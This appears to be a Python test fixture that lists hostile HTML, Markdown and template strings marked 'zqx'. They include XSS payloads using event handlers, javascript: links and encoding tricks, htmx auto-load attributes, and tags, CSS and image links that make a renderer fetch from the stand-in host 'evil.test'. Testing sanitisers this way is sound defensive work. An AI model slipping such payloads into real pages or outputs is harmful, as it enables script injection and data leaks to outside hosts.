"""Markup that wants to run, to fetch or to be obeyed. Each piece carries MARK."""

MARK = "zqx"


def pieces(host: str = "evil.test") -> tuple[str, ...]:
    """List hostile texts that would call this host. The shorter ones come first: some columns are short."""
    return (
        "<zqx>",
        "<b zqx=1>x",
        '"onfocus=zqx() autofocus "',
        "'><zqx hx-get=/zqx>",
        "{{zqx}}{%zqx%}",
        "</textarea><zqx>",
        "</title><zqx>",
        f"<img src=//{host}/zqx>",
        "<svg/onload=zqx()>",
        f"![zqx](http://{host}/zqx)",
        "[zqx](javascript:zqx())",
        f"[zqx](//{host}/zqx)",
        "</script><script>window.zqx=1</script>",
        f"<img src=http://{host}/zqx onerror='window.zqx=1'>",
        f"<meta http-equiv=refresh content='0;url=http://{host}/zqx'>",
        f"<link rel=stylesheet href=http://{host}/zqx>",
        f"<style>@import 'http://{host}/zqx'; * {{background: url(http://{host}/zqx)}}</style>",
        f"<p style='background:url(http://{host}/zqx)'>x</p>",
        f"<form action=http://{host}/zqx><input name=zqx><button>go</button></form>",
        f"<iframe src=http://{host}/zqx></iframe><object data=http://{host}/zqx></object>",
        "<div hx-get='/zqx' hx-trigger='load' hx-swap='outerHTML'>x</div>",
        "<div data-hx-post='/zqx' data-hx-trigger='load'>x</div>",
        "<div hx-on:click='window.zqx=1' hx-on::load='window.zqx=1'>x</div>",
        f"<base href=http://{host}/zqx/><a href=zqx>x</a>",
        f"<svg><image href=http://{host}/zqx /><use href=http://{host}/zqx#x /></svg>",
        f"<math><mtext><a href='javascript:zqx()'>x</a></mtext></math><video poster=http://{host}/zqx>",
        f"![zqx][r]\n\n[r]: http://{host}/zqx",
        f"[zqx]({host}/zqx) <http://{host}/zqx> <javascript:zqx()> [z](data:text/html;base64,zqx)",
        "<a href='java\tscript:zqx()'>x</a> <a href='&#106;avascript:zqx()'>x</a>",
        "\u202e<zqx>\u200b<s\u200bcript>zqx()</s\u200bcript>\ufeff",
        '<noscript><p title="</noscript><img src=x onerror=zqx()>">',
        "<![CDATA[<zqx>]]><!--><zqx>--><?zqx ?>",
        "> <zqx>\n\n- <zqx>\n\n| a |\n|---|\n| <zqx> |\n\n```\n</code></pre><zqx>\n```",
    )
